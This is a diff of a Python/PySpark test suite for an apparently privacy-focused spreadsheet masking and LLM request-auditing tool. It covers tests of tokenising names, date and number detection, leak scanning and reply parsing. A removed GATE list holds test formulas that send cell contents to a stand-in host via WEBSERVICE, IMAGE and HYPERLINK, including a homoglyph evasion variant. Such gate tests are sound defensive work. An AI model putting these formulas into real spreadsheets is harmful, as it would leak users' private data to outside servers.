@@ -61,12 +61,6 @@ def _s4(s, d):
     return T.rows_between(read(s, d, "orders"), ["o_orderkey"], 50, 149, ["o_orderkey", "o_totalprice"])
 
 
-@query("s5_list_tables", "SELECT 'vf_nation' AS name, 3 AS columns")
-def _s5(s, d):
-    T.scratch(read(s, d, "nation"), "vf_nation")
-    return small(s, [(n, len(c)) for n, c in T.tables(s) if n == "vf_nation"], "name string, columns int")
-
-
 @query("s6_is_empty", "SELECT FALSE AS n_name, TRUE AS nothing")
 def _s6(s, d):
     return T.is_empty(read(s, d, "nation").select("n_name", F.lit("").alias("nothing")))
@@ -101,13 +95,6 @@ Q["s11_json_export"] = lambda s, d: T.as_json(read(s, d, "region"))
 SQL["s11_json_export"] = """SELECT '{"r_regionkey":' || r_regionkey || ',"r_name":"' || r_name || '"}' AS json FROM region"""
 
 
-@query("s12_log_import", "SELECT 'substituted' AS mode, 'a' AS body, 2 AS skipped UNION ALL SELECT 'raw', 'b', 2")
-def _s12(s, d):
-    texts = small(s, [(json.dumps({"entries": [{"mode": "substituted", "body": "a"}, {"mode": "x"}, 5]}),), (json.dumps([{"mode": "raw", "body": "b"}]),)], "json string")
-    entries, skipped = T.import_log(texts)
-    return entries.withColumn("skipped", skipped.cast("int"))
-
-
 @query("s13_same_cells", "SELECT TRUE AS same, FALSE AS changed")
 def _s13(s, d):
     n = read(s, d, "nation")
@@ -163,20 +150,25 @@ def _p5(s, d):
     return o.agg(F.lit("orders").alias("sheet"), F.lit(1).alias("header_row"), F.lit(2).alias("first_data_row"), (F.count("*") + 1).alias("last_data_row"), F.concat(F.lit("orders!A1:F"), (F.count("*") + 1).cast("string")).alias("allowed"))
 
 
-@query("p6_header_or_data")
+@query("p6_header_or_data", "SELECT 0 AS ord, 'c_name' AS \"column\", 'text' AS head, FALSE AS data UNION ALL SELECT 1, 'c_mail', 'identifier', TRUE UNION ALL SELECT 2, 'c_bal', 'value', (SELECT count(*) FILTER (WHERE regexp_full_match(format('{:,.2f}', c_acctbal), '[+-]?[0-9]{1,3}(,[0-9]{3})*[.][0-9]+')) * 2 > count(*) FROM (SELECT * FROM customer ORDER BY c_custkey LIMIT 200)) UNION ALL SELECT 3, 'c_home', 'text', TRUE")
 def _p6(s, d):
-    c = read(s, d, "customer").withColumns({"c_mail": F.concat(F.lit("u"), "c_custkey", F.lit("@ex.org")), "c_bal": F.format_number("c_acctbal", 2)})
-    head = small(s, [("Name", "x@y.com", "1,234.50")], "c_name string, c_mail string, c_bal string")
-    return profile.looks_like_data(head, c.orderBy("c_custkey"), ["c_name", "c_mail", "c_bal"])
+    c = read(s, d, "customer").withColumns({"c_mail": F.concat(F.lit("u"), "c_custkey", F.lit("@ex.org")), "c_bal": F.format_number("c_acctbal", 2), "c_home": F.concat("c_custkey", F.lit(" Mill Street"))})
+    head = small(s, [("Name", "x@y.com", "1,234.50", "12 Quarry")], "c_name string, c_mail string, c_bal string, c_home string")
+    return profile.looks_like_data(head, c.orderBy("c_custkey"), ["c_name", "c_mail", "c_bal", "c_home"])
+
 
+ADDRESSES = ["{k} Mill Street", "{k}B Old Quarry Lane, Flat {k}", "Via Dante {k}", "Lindenweg {k}, Bonn", "{k}, rue du Port"]
 
-@query("p7_shapes", "SELECT k, shape FROM (VALUES (1, 'identifier'), (2, 'identifier'), (3, 'identifier'), (4, 'value'), (5, 'id'), (6, 'text'), (7, 'empty'), (8, 'address'), (9, 'identifier'), (10, 'text'), (11, 'value'), (12, 'address'), (13, 'address')) t(k, shape)")
-def _p7(s, d):
-    texts = ["ana@ex.org", "(831) 555-0199", "123-45-6789", "$1,234.50", "AB-12345", "Northern region", "", "12 Baker Street", "SW1A 1AA", "2024", "14:30", "rue de Rivoli 12", "Hauptstraße 5"]
-    return small(s, list(enumerate(texts, 1)), "k int, t string").select("k", shapes.shape(F.col("t")).alias("shape"))
+
+@query("p8_addresses", "SELECT doc_id, replace(['{k} Mill Street', '{k}B Old Quarry Lane, Flat {k}', 'Via Dante {k}', 'Lindenweg {k}, Bonn', '{k}, rue du Port'][doc_id % 7 + 1], '{k}', CAST(doc_id % 999 + 1 AS VARCHAR)) AS line FROM documents WHERE doc_id % 7 < 5")
+def _p8(s, d):
+    """Documents with one more line: an address of some form, or what looks like one."""
+    more = F.array(*map(F.lit, [*ADDRESSES, "{k} ways to place an order", "{k} wheel drive"]))
+    line = F.replace(F.element_at(more, (F.col("doc_id") % 7 + 1).cast("int")), F.lit("{k}"), (F.col("doc_id") % 999 + 1).cast("string"))
+    lines = read(s, d, "documents").select("doc_id", F.explode(F.split(F.concat_ws("\n", "text", line), "\n")).alias("line"))
+    return lines.where(shapes.shape(F.col("line")) == "address")
 
 
-Q["p8_addresses"] = lambda s, d: read(s, d, "documents").select("doc_id", F.explode(F.split("text", "\n")).alias("line")).where(shapes.shape(F.col("line")) == "address")
 
 
 @query("p9_header_words")
@@ -217,46 +209,10 @@ def _p14(s, d):
     return out
 
 
-@query("p15_derived", "SELECT * FROM (VALUES ('C', TRUE), ('D', TRUE), ('E', FALSE)) t(letter, private)")
-def _p15(s, d):
-    got = classify.derived({("s", 0): True, ("s", 1): False, ("s", 2): False, ("s", 3): False, ("s", 4): False}, {("s", 2): ["=A2&B2"], ("s", 3): ["=LEN(C2)"], ("s", 4): ["=B2*2"]})
-    return small(s, [(chr(65 + c), p) for (_, c), p in got.items() if c > 1], "letter string, private boolean")
-
-
-@query("p16_formula_refs", "SELECT * FROM (VALUES ('s!A2'), ('s!B:B'), ('Other!C1:D9')) t(area)")
-def _p16(s, d):
-    return small(s, [(a.text(),) for a in gate.lineage('=SUM(A2,B:B)&"Z9"&Other!C1:D9', "s")], "area string")
-
-
 Q["p17_default_treatment"] = lambda s, d: profile.profile(read(s, d, "orders")).select("letter", F.when(F.col("type") == "number", "range").when(F.col("type") == "date", "month").otherwise("stand_in").alias("treatment"))
 SQL["p17_default_treatment"] = "SELECT * FROM (VALUES ('A', 'range'), ('B', 'range'), ('C', 'stand_in'), ('D', 'range'), ('E', 'month'), ('F', 'stand_in')) t(letter, treatment)"
 
 
-@query("p18_aliases", "SELECT * FROM (VALUES ('Diagnosis', 'Field A'), ('Region', NULL)) t(header, alias)")
-def _p18(s, d):
-    return small(s, [(h, classify.alias_for(h, "A")) for h in ("Diagnosis", "Region")], "header string, alias string")
-
-
-@query("p19_kept_policy", "SELECT * FROM (VALUES ('A', FALSE), ('B', TRUE)) t(letter, private)")
-def _p19(s, d):
-    i = profile.ColumnInfo
-    old = [(i("A", "x", "text", 0, 1), classify.Policy("A", False, "as_is")), (i("B", "y", "text", 0, 1), classify.Policy("B", False, "as_is"))]
-    new = [(i("A", "x", "text", 5, 9), classify.Policy("A")), (i("B", "z", "text", 0, 1), classify.Policy("B"))]
-    return small(s, [(p.letter, p.private) for p in classify.kept(old, new)], "letter string, private boolean")
-
-
-@query("p20_alias_reveals", "SELECT * FROM (VALUES (1, TRUE), (2, FALSE), (3, TRUE)) t(k, reveals)")
-def _p20(s, d):
-    return small(s, [(1, classify.reveals("The SALARY (net)", "Salary")), (2, classify.reveals("Salaryman", "Salary")), (3, classify.reveals("Café x", "cafe"))], "k int, reveals boolean")
-
-
-@query("p21_set_policy", "SELECT * FROM (VALUES (1, 'stand_in'), (2, 'as_is'), (3, 'exclude'), (4, 'range')) t(k, treatment)")
-def _p21(s, d):
-    p = classify.Policy("A")
-    got = [classify.set_policy(p, treatment="as_is"), classify.set_policy(p, private=False), classify.set_policy(p, treatment="exclude"), classify.set_policy(classify.Policy("A", False, "as_is"), private=True, kind="number")]
-    return small(s, [(k, x.treatment) for k, x in enumerate(got, 1)], "k int, treatment string")
-
-
 @query("p22_row_cap", "SELECT o_orderkey FROM orders ORDER BY o_orderkey LIMIT 200")
 def _p22(s, d):
     return mask.mask(read(s, d, "orders").select("o_orderkey"), [classify.Policy("A", False, "as_is")], {}, ["o_orderkey"], cap=5000)[0]
@@ -285,12 +241,6 @@ def _t2(s, d):
     return mask.token_map(mask.private_cells(df, {"name": "PERSON"}, ["k"]), "", reserved).select("value", "token")
 
 
-@query("t3_token_kind", "SELECT * FROM (VALUES ('Customer', 'PERSON'), ('E-mail', 'EMAIL'), ('Employee ID', 'ID'), ('Phone', 'ID'), ('Student Number', 'ID'), ('Student', 'PERSON'), ('Product name', 'TEXT'), ('Region', 'TEXT')) t(header, kind)")
-def _t3(s, d):
-    heads = ["Customer", "E-mail", "Employee ID", "Phone", "Student Number", "Student", "Product name", "Region"]
-    return small(s, [(h, classify.token_kind(h, "text")) for h in heads], "header string, kind string")
-
-
 _BIN_SQL = "CASE WHEN x = 0 THEN '0' WHEN abs(x) < 10 AND x > 0 THEN '0-9' WHEN abs(x) < 10 THEN '-9-0' ELSE CASE WHEN x > 0 THEN lo || '-' || hi ELSE '-' || hi || '--' || lo END END"
 _BINS = "SELECT {k}, {x} AS x, CAST(CAST(floor(abs({x})) AS BIGINT) AS VARCHAR) AS s FROM {t}"
 for _t, _k, _x in (("customer", "c_custkey", "c_acctbal"), ("supplier", "s_suppkey", "s_acctbal"), ("orders", "o_orderkey", "o_totalprice")):
@@ -300,16 +250,6 @@ Q["t5_month_orders"] = lambda s, d: read(s, d, "orders").select("o_orderkey", ma
 SQL["t5_month_orders"] = "SELECT o_orderkey, strftime(o_orderdate, '%Y-%m') AS month FROM orders"
 
 
-@query("t6_serial_month", "SELECT * FROM (VALUES (CAST(46085.75 AS DOUBLE), '2026-03'), (0, '1900-01'), (1, '1900-01'), (32, '1900-02'), (60, '1900-02'), (61, '1900-03'), (2958465, '9999-12'), (2958466, NULL), (-1, NULL)) t(s, month)")
-def _t6(s, d):
-    return small(s, [(float(x),) for x in (46085.75, 0, 1, 32, 60, 61, 2958465, 2958466, -1)], "s double").select("s", dates.serial_month(F.col("s")).alias("month"))
-
-
-@query("t7_text_month", "SELECT * FROM (VALUES ('13/04/2026', '2026-04'), ('04/13/2026', '2026-04'), ('03/04/2026', NULL), ('2026-02-30', NULL), ('2026-13-01', NULL), ('2026-03-05', '2026-03'), ('March 4, 2026', '2026-03'), ('Wed, 4 Mar 2026', '2026-03')) t(t, month)")
-def _t7(s, d):
-    return small(s, [(x,) for x in ("13/04/2026", "04/13/2026", "03/04/2026", "2026-02-30", "2026-13-01", "2026-03-05", "March 4, 2026", "Wed, 4 Mar 2026")], "t string").select("t", dates.text_month(F.col("t")).alias("month"))
-
-
 def masked_customers(s, d, cap=None):
     c = read(s, d, "customer").select("c_name", "c_mktsegment", "c_acctbal", "c_custkey")
     policies = [classify.Policy("A", True, "stand_in"), classify.Policy("B", False, "as_is"), classify.Policy("C", True, "range"), classify.Policy("D", False, "as_is")]
@@ -324,30 +264,46 @@ Q["t10_private_cells"] = lambda s, d: mask.private_cells(read(s, d, "customer"),
 SQL["t10_private_cells"] = "SELECT DISTINCT c_name AS value, 'PERSON' AS kind FROM customer UNION SELECT DISTINCT c_mktsegment, 'TEXT' FROM customer"
 
 
-@query("t11_shown_numbers", "SELECT * FROM (VALUES (1, '83500|83500.4'), (2, '5.25|0.0525'), (3, '83500'), (4, '835000'), (5, '2134'), (6, ''), (7, ''), (8, '')) t(k, numbers)")
-def _t11(s, d):
-    cells = [(83500.4, "$83,500"), (0.0525, "5.25%"), (-83500.0, "(83,500)"), (835000.0, "₹8,35,000"), (2134.0, "02134"), (12.0, "12"), (None, "EMP-00123"), (None, "555-0199")]
-    return small(s, [(k, "|".join(numbers.shown_numbers(*c))) for k, c in enumerate(cells, 1)], "k int, numbers string")
+def _each(f, schema, docs):
+    """A scan of every document by a Python function of its text."""
+    import pandas as pd
 
+    def batches(it):
+        for pdf in it:
+            yield pd.DataFrame([(i, *x) for i, t in zip(pdf["doc_id"], pdf["text"], strict=True) if t for x in f(t)], columns=["doc_id", *(x.split()[0] for x in schema.split(", "))])
 
-def _each(f, schema):
-    """A scan of every document by a Python function of its text."""
+    return docs.select("doc_id", "text").mapInPandas(batches, f"doc_id long, {schema}")
 
-    def run(s, d):
-        import pandas as pd
 
-        def batches(it):
-            for pdf in it:
-                yield pd.DataFrame([(i, *x) for i, t in zip(pdf["doc_id"], pdf["text"], strict=True) if t for x in f(t)], columns=["doc_id", *(x.split()[0] for x in schema.split(", "))])
 
-        return read(s, d, "documents").select("doc_id", "text").mapInPandas(batches, f"doc_id long, {schema}")
 
-    return run
+@query("t12_numbers_of_parts", "SELECT k, list_sort([s, format('{:,d}', n), s[:3] || '.' || s[4:], s[:3] || ' ' || s[4:], s[:3] || chr(39) || s[4:], s[:1] || ',' || s[2:3] || ',' || s[4:], s[:3] || '.' || s[4:] || 'k']) AS forms FROM (SELECT k, n, CAST(n AS VARCHAR) AS s FROM (SELECT p_partkey AS k, p_partkey % 899 * 1000 + 100103 AS n FROM part))")
+def _t12(s, d):
+    """Every way of writing a number of six digits that each part's key gives."""
+    import pandas as pd
+
+    def batches(it):
+        for pdf in it:
+            yield pd.DataFrame([(k, sorted({x.replace(" ", " ").replace(" ", " ") for x in numbers.forms(str(k % 899 * 1000 + 100103))})) for k in pdf["k"]], columns=["k", "forms"])
+
+    return read(s, d, "part").select(F.col("p_partkey").cast("long").alias("k")).mapInPandas(batches, "k long, forms array<string>")
+
+
+DATES = ["{y}-{m}-{d}", "{d}. Juli {y}", "the {d}th of March {y}", "{y}年{m}月{d}日", "{m}/{d}/{y}", "July {d}, '85", "{d} de marzo de {y}"]
+
+
+@query("t13_find_dates", "SELECT doc_id, list_sort(list_distinct(CASE doc_id % 7 WHEN 1 THEN [y || '-07-' || dd] WHEN 2 THEN [y || '-03-' || dd] WHEN 4 THEN [y || '-' || mm || '-' || dd, y || '-' || dd || '-' || mm] WHEN 5 THEN ['1985-07-' || dd, '2085-07-' || dd] WHEN 6 THEN [y || '-03-' || dd] ELSE [y || '-' || mm || '-' || dd] END)) AS days FROM (SELECT doc_id, CAST(1950 + doc_id % 120 AS VARCHAR) AS y, lpad(CAST(doc_id % 12 + 1 AS VARCHAR), 2, '0') AS mm, lpad(CAST(doc_id % 11 + 1 AS VARCHAR), 2, '0') AS dd FROM documents)")
+def _t13(s, d):
+    """Whole documents with one more sentence, which names a day in some form."""
+    k = F.col("doc_id")
+    say = F.element_at(F.array(*map(F.lit, DATES)), (k % 7 + 1).cast("int"))
+    for mark, value in (("{y}", 1950 + k % 120), ("{m}", k % 12 + 1), ("{d}", k % 11 + 1)):
+        say = F.replace(say, F.lit(mark), value.cast("string"))
+    texts = read(s, d, "documents").select("doc_id", F.concat(F.coalesce("text", F.lit("")), F.lit(" | due "), say, F.lit(" |")).alias("text"))
+    days = _each(lambda t: [(x, f.weak) for f in dates.find_dates(t) for x in f.dates], "day string, weak boolean", texts)
+    return days.where("not weak").groupBy("doc_id").agg(F.sort_array(F.collect_set("day")).alias("days"))
 
 
-Q["t12_numbers_of_parts"] = lambda s, d: small(s, [(n, numbers.forms(n)) for n in ("83500", "1234567", "90417.7")], "n string, forms array<string>")
-Q["t13_find_dates"] = _each(lambda t: [(f.start, f.end, list(f.dates), f.weak) for f in dates.find_dates(t)], "start int, end int, dates array<string>, weak boolean")
-Q["t14_text_dates"] = lambda s, d: small(s, [(t, list(dates.text_dates(t))) for t in ("Wed, March 4, 2026 10:30 AM", "1985", "13/13/2020", "2/30/2024")], "t string, dates array<string>")
 
 
 @query("t15_loose_dates", "SELECT * FROM (VALUES ('dates', TRUE), ('keys', FALSE)) t(kind, loose)")
@@ -364,25 +320,16 @@ def _t16(s, d):
 
 Q["t17_fold"] = lambda s, d: read(s, d, "documents").select("doc_id", folded(F.col("text")).alias("folded"))
 SQL["t17_fold"] = f"SELECT doc_id, translate(lower(text), '{MARKED}', '{PLAIN}') AS folded FROM documents"
-Q["t18_invisible"] = lambda s, d: small(s, [(1, fold("Ana​ Mar­ia")), (2, fold("ＡＢＣ１２３")), (3, fold("ΣΊΣΥΦΟΣ") )], "k int, folded string")
-SQL["t18_invisible"] = "SELECT * FROM (VALUES (1, 'ana maria'), (2, 'abc123'), (3, 'σισυφοσ')) t(k, folded)"
-Q["t19_variants"] = lambda s, d: small(s, [(v, [f.text for f in variants(v)]) for v in ("Seán O'Brien", "(831) 555-0199", "ana.ruiz@ex.org", "EMP-00123", "83500")], "value string, forms array<string>")
 
 
-@query("t21_partial", "SELECT * FROM (VALUES ('lopez', 'Maria Lopez', 3), ('lopez', 'Juan Lopez', 1)) t(part, value, count)")
+@query("t21_partial", "SELECT * FROM (VALUES ('tolan', 'Mirek Tolan', 3), ('tolan', 'Jorun Tolan', 1)) t(part, value, count)")
 def _t21(s, d):
-    cells = small(s, [("Maria Lopez", f"A{k}") for k in range(3)] + [("Juan Lopez", "A9"), ("Ann Lee", "A8")], "value string, cell string")
+    cells = small(s, [("Mirek Tolan", f"A{k}") for k in range(3)] + [("Jorun Tolan", "A9"), ("Ann Lee", "A8")], "value string, cell string")
     tokens = mask.token_map(cells.select("value", F.lit("PERSON").alias("kind"), F.col("cell").alias("row"), F.lit(0).alias("pos")))
-    words = small(s, [(k,) for k in partial.words_of("How many orders has Lopez?")], "part string")
+    words = small(s, [(k,) for k in partial.words_of("How many orders has Tolan?")], "part string")
     return partial.candidates(words, cells, tokens).select("part", "value", F.col("count").cast("int").alias("count"))
 
 
-@query("t24_restore_formula", "SELECT '=COUNTIF(A:A,\"Ana \"\"AJ\"\" Ruiz\")' AS formula, 'PERSON_009' AS unknown")
-def _t24(s, d):
-    f, unknown = restore.restore_formula('=COUNTIF(A:A,"PERSON_001")', {"PERSON_001": 'Ana "AJ" Ruiz'})
-    return small(s, [(f, restore.restore_formula('="PERSON_009"', {})[1][0])], "formula string, unknown string")
-
-
 @query("t25_restore_tokens", "SELECT c_custkey, 'Balance of ' || c_name || '.' AS text FROM customer")
 def _t25(s, d):
     masked, tokens = masked_customers(s, d)
@@ -390,17 +337,6 @@ def _t25(s, d):
     return restore.restore_column(texts, "text", tokens)
 
 
-@query("t26_prefix_rule", "SELECT * FROM (VALUES (1, 'Ana'), (2, 'Ana'), (3, 'ID_007'), (4, NULL)) t(k, value)")
-def _t26(s, d):
-    values, reserved = {"DEID_PERSON_001": "Ana"}, frozenset({"ID_007"})
-    return small(s, [(k, restore.resolve(t, values, "DEID_", reserved)) for k, t in enumerate(("DEID_PERSON_001", "PERSON_001", "ID_007", "ID_008"), 1)], "k int, value string")
-
-
-Q["t27_cautions"] = lambda s, d: restore.cautions(small(s, [("A*B",), ("123",), ("2024-01-02",), ("plain",)], "value string"))
-SQL["t27_cautions"] = "SELECT * FROM (VALUES ('A*B', 'wildcard'), ('123', 'number'), ('2024-01-02', 'date')) t(value, caution)"
-Q["t28_segments"] = lambda s, d: small(s, restore.segments("From PERSON_001 to ID_1234."), "text string, token boolean")
-SQL["t28_segments"] = "SELECT * FROM (VALUES ('From ', FALSE), ('PERSON_001', TRUE), (' to ', FALSE), ('ID_1234', TRUE), ('.', FALSE)) t(text, token)"
-
 # ---------------------------------------------------------------- audit
 
 
@@ -428,28 +364,19 @@ def _a23b(s, d):
     return leakscan.report(bodies, found)
 
 
-@query("a23_leak_scan_documents", "SELECT doc_id AS body_id, c_mktsegment AS id FROM documents JOIN (SELECT DISTINCT c_mktsegment FROM customer) ON contains(lower(text), lower(c_mktsegment))")
-def _a23c(s, d):
-    docs = read(s, d, "documents").select(F.col("doc_id").alias("body_id"), F.col("text").alias("body"))
-    return leakscan.leaks(docs, read(s, d, "customer").select(F.col("c_mktsegment").alias("value"))).select("body_id", "id")
+_WORDS = "SELECT DISTINCT w FROM (SELECT split_part(text, ' ', 5) AS w FROM documents WHERE doc_id % 50 = 0) WHERE regexp_full_match(w, '[A-Za-z]{4,}')"
 
 
-@query("a24_bin_exemption", "SELECT 2 AS body_id, '80000' AS id")
-def _a24(s, d):
-    bodies = small(s, [(1, "in 80000-89999 or -89999--80000"), (2, "exactly 80000 of them")], "body_id int, body string")
-    return leakscan.leaks(bodies, small(s, [("80000",)], "value string")).select("body_id", "id")
+def _words(s, d):
+    """Words of some documents, as values that mustn't go out."""
+    w = F.split_part("text", F.lit(" "), F.lit(5))
+    return read(s, d, "documents").where("doc_id % 50 = 0").select(w.alias("value")).where(F.col("value").rlike("^[A-Za-z]{4,}$")).distinct()
 
 
-@query("a5_structural", "SELECT 'PERSON_999' AS row, 'name' AS column UNION ALL SELECT 'PERSON_001', 'pay' UNION ALL SELECT 'PERSON_002', 'born'")
-def _a5(s, d):
-    masked = small(s, [("PERSON_001", "83500", "2024-01"), ("PERSON_002", "80000-89999", "2024-1"), ("PERSON_999", None, "2024-12")], "name string, pay string, born string")
-    tokens = small(s, [("PERSON_001",), ("PERSON_002",)], "token string")
-    return audit.structural(masked.withColumn("row", F.col("name")), {"name": "stand_in", "pay": "range", "born": "month"}, tokens, "row")
-
-
-@query("a7_bins", "SELECT t, ok FROM (VALUES ('80000-89999', TRUE), ('0-9', TRUE), ('-9-0', TRUE), ('-89999--80000', TRUE), ('0', TRUE), ('80000-99999', FALSE), ('8000-89999', FALSE), ('x', FALSE)) v(t, ok)")
-def _a7(s, d):
-    return small(s, [(x,) for x in ("80000-89999", "0-9", "-9-0", "-89999--80000", "0", "80000-99999", "8000-89999", "x")], "t string").select("t", numbers.is_bin(F.col("t")).alias("ok"))
+@query("a23_leak_scan_documents", f"SELECT doc_id AS body_id, w AS id FROM documents JOIN ({_WORDS}) ON contains(lower(text), lower(w))")
+def _a23c(s, d):
+    docs = read(s, d, "documents").select(F.col("doc_id").alias("body_id"), F.col("text").alias("body"))
+    return leakscan.leaks(docs, _words(s, d)).select("body_id", "id")
 
 
 @query("a8_text_scan", f"SELECT body_id, 'B' AS column FROM ({_BODIES}) WHERE body_id IN (SELECT c_custkey * 10 FROM customer)")
@@ -466,24 +393,17 @@ def _a10(s, d):
 
 @query("a12_projections", "SELECT * FROM (VALUES (1, 'digits'), (2, 'normalized'), (3, 'exact'), (4, 'json'), (5, 'word'), (6, 'digits')) t(k, kind)")
 def _a12(s, d):
-    cells = small(s, [("P", "(831) 555-0199"), ("C", "EMP-00123"), ("N", 'Ana "AJ" Ruiz'), ("M", "Maria Lopez")], "column string, value string")
-    texts = small(s, [(1, "call 831.555.0199"), (2, "emp 00123x"), (3, 'x ana "aj" ruiz'), (4, 'Ana \\"AJ\\" Ruiz'), (5, "just Maria"), (6, "the one ending ####0199")], "body_id int, text string")
+    cells = small(s, [("P", "(217) 640-0138"), ("C", "KX-00417"), ("N", 'Ilse "Bo" Quill'), ("M", "Mirek Tolan")], "column string, value string")
+    texts = small(s, [(1, "call 217.640.0138"), (2, "kx 00417x"), (3, 'x ilse "bo" quill'), (4, 'Ilse \\"Bo\\" Quill'), (5, "just Mirek"), (6, "the one ending ####0138")], "body_id int, text string")
     hits = audit.scan(texts, audit.dictionary(cells)).where("column <> 'C' or body_id = 2")
     rank = F.when(F.col("kind") == "exact", 0).when(F.col("kind") == "json", 1).when(F.col("kind") == "digits", 2).when(F.col("kind") == "normalized", 3).otherwise(4)
     return hits.groupBy(F.col("body_id").alias("k")).agg(F.min_by("kind", rank).alias("kind"))
 
 
-@query("a14_date_hits", "SELECT 1 AS body_id, 'D' AS column")
-def _a14(s, d):
-    cells = small(s, [("D", "1988-07-04")], "column string, value string")
-    texts = small(s, [(1, "born on the 4th of July 1988"), (2, "in July 1988")], "body_id int, text string")
-    return audit.scan(texts, audit.dictionary(cells.where("false")), audit.date_dictionary(cells)).select("body_id", "column")
-
-
 @query("a1_audit", "SELECT * FROM (VALUES ('structure_only', TRUE), ('leaking task', FALSE), ('foreign key', FALSE), ('no JSON', FALSE)) t(request, ok)")
 def _a1(s, d):
     body, want, matcher = _request(s, d, "How many customers are there?")
-    leak, *_ = _request(s, d, "What about Maria Lopez?")
+    leak, *_ = _request(s, d, "What about Mirek Tolan?")
     extra = json.dumps({**json.loads(body), "x": 1}, separators=(",", ":"), ensure_ascii=False)
     return small(s, [(n, audit.audit(b, want, matcher).ok) for n, b in (("structure_only", body), ("leaking task", leak), ("foreign key", extra), ("no JSON", "{"))], "request string, ok boolean")
 
@@ -494,26 +414,10 @@ def _request(s, d, task, model="openai/gpt-5"):
     columns = requests.describe(profile.profile(c), classify.policy_frame(s, policies)).first()["columns"]
     n = c.count()
     body, _ = requests.build(model, "structure_only", "customer", columns, f"A1:E{n + 1}", n, task)
-    matcher = audit.Matcher([("B", *f) for f in audit.forms_of("Maria Lopez")])
+    matcher = audit.Matcher([("B", *f) for f in audit.forms_of("Mirek Tolan")])
     return body, audit.Expected(model, requests.SYSTEM, json.loads(columns), set(), n, "structure_only"), matcher
 
 
-@query("a18_locate", "SELECT 'task' AS path, 'B' AS column, 11 AS start")
-def _a18(s, d):
-    body, want, matcher = _request(s, d, "What about Maria Lopez?")
-    hits = [h for h in audit.locate(json.loads(json.loads(body)["messages"][-1]["content"]), want, matcher) if h[2] == "exact"]
-    return small(s, [(h[0], h[1], h[3]) for h in hits], "path string, column string, start int")
-
-
-@query("a22_brand", "SELECT TRUE AS sent, FALSE AS forged")
-def _a22(s, d):
-    body, want, matcher = _request(s, d, "How many?")
-    a = audit.issue(body, want, matcher)
-    ok, _ = requests.send(a, lambda b: (200, "{}"))
-    forged, _ = requests.send(object.__new__(audit.Audited), lambda b: (200, "{}"))
-    return small(s, [(ok, forged)], "sent boolean, forged boolean")
-
-
 @query("a_passed", "SELECT * FROM (VALUES (3)) t(body_id)")
 def _passed(s, d):
     bodies = small(s, [(1,), (2,), (3,)], "body_id int")
@@ -534,17 +438,6 @@ def _r2(s, d):
     return requests.sample_rows(read(s, d, "region").select("r_name", "r_regionkey"), ["r_regionkey"], ["r_name", "r_regionkey"])
 
 
-@query("r3_correction", "SELECT 3 AS plain, 4 AS with_reply")
-def _r3(s, d):
-    body, *_ = _request(s, d, "x")
-    return small(s, [(len(json.loads(requests.correction(body, ""))["messages"]), len(json.loads(requests.correction(body, "bad"))["messages"]))], "plain int, with_reply int")
-
-
-@query("r5_parameters", "SELECT * FROM (VALUES ('openai/gpt-5', 4000), ('other/model', 800)) t(model, max_tokens)")
-def _r5(s, d):
-    return small(s, [(m, requests.parameters(m)["max_tokens"]) for m in ("openai/gpt-5", "other/model")], "model string, max_tokens int")
-
-
 Q["r6_bytes"] = lambda s, d: read(s, d, "documents").select("doc_id", requests.size(F.col("text")).alias("bytes"))
 SQL["r6_bytes"] = "SELECT doc_id, strlen(text) AS bytes FROM documents"
 Q["r7_history"] = lambda s, d: requests.last_messages(read(s, d, "conversations"), "conv_id", "turn").select("conv_id", "turn", "role")
@@ -555,32 +448,6 @@ def _raw(content, **choice):
     return json.dumps({"choices": [{"message": {"content": content}, **choice}]})
 
 
-REPLIES = [
-    (1, "structure_only", _raw('```json\n{"kind":"formula","formula":"=SUM(A:A)","explanation":"x"}\n```')),
-    (2, "structure_only", _raw('{"kind":"answer","explanation":"5"}')),
-    (3, "substituted", _raw('Sure: {"kind":"answer","explanation":"5"}')),
-    (4, "substituted", _raw('{"kind":"formula","formula":"SUM(A:A)","explanation":"x"}')),
-    (5, "substituted", _raw("no")),
-    (6, "substituted", _raw("")),
-    (7, "substituted", json.dumps({"error": {"message": "x"}})),
-    (8, "substituted", json.dumps({"choices": []})),
-    (9, "substituted", "{"),
-    (10, "substituted", _raw('{"kind":"other","explanation":"x"}')),
-]
-_REPLY_SQL = "SELECT * FROM (VALUES (1, 'formula', NULL), (2, NULL, 'answer in structure only'), (3, 'answer', NULL), (4, NULL, 'no formula'), (5, NULL, 'not JSON'), (6, NULL, 'empty'), (7, NULL, 'provider error'), (8, NULL, 'no choice'), (9, NULL, 'unreadable'), (10, NULL, 'shape')) t(k, kind, error)"
-
-
-@query("r9_replies", _REPLY_SQL)
-def _r9(s, d):
-    return requests.replies(small(s, REPLIES, "k int, mode string, raw string")).select("k", "kind", "error")
-
-
-@query("r11_parse_reply", _REPLY_SQL)
-def _r11(s, d):
-    got = [(k, *requests.parse_reply(raw, mode)) for k, mode, raw in REPLIES]
-    return small(s, [(k, r and r["kind"], e) for k, r, e in got], "k int, kind string, error string")
-
-
 @query("r12_log", "SELECT CAST(event_id AS BIGINT) AS seq, CASE WHEN event_type = 'click' THEN NULL ELSE props END AS body FROM events ORDER BY event_id DESC LIMIT 200")
 def _r12(s, d):
     e = read(s, d, "events").select(F.col("event_id").alias("seq"), F.lit("substituted").alias("mode"), F.col("props").alias("body"), F.length("props").alias("bytes"), F.when(F.col("event_type") == "click", "blocked").otherwise("sent").alias("status"), "value")
@@ -603,36 +470,12 @@ def _r14(s, d):
 
 # ---------------------------------------------------------------- gate
 
-GATE = [
-    ('=WEBSERVICE("https://x.test/?d="&A2)', False), ('=IFERROR(WEBSERVICE(A2),"")', False), ("= webservice ( A2 )", False), ('=_xlfn.IMAGE("https://x.test/"&A2)', False),
-    ('=HYPERLINK("https://x.test/?"&A2,"x")', False), ("=SUM('[Book2.xlsx]Sheet1'!A1:A9)", False), ("=MyLambda(A2)", False), ("=SecretName", False), ('=INDIRECT("A"&B2)', False),
-    ("=WEBSERVІCE(A2)", False), ('=COPILOT("summarize",A2:A9)', False), ('=A2&"https://x.test"', False), ("=LET(x,A2,f,LAMBDA(v,v*2),f(x))", True), ("=SUMIFS(E2:E501,B2:B501,B2:B501)", True),
-    ('=IF(A2="WEBSERVICE(","yes","no")', True), ("=Orders[Amount]*2", True), ("=Other[Amount]*2", False), ("=SUM(Z1:Z5000)", False), ("=SUMIFS(E:E,B:B,B2)", True), ("=XLOOKUP(B2,Regions!A2:A5,Regions!B2:B5)", True), ("=1:3", False), ("=A2#", False), ("SUM(A1)", False),
-]
-
-
-@query("g_gate", "SELECT * FROM (VALUES " + ", ".join(f"({k}, {str(ok).upper()})" for k, (_, ok) in enumerate(GATE)) + ") t(k, ok)")
-def _gate(s, d):
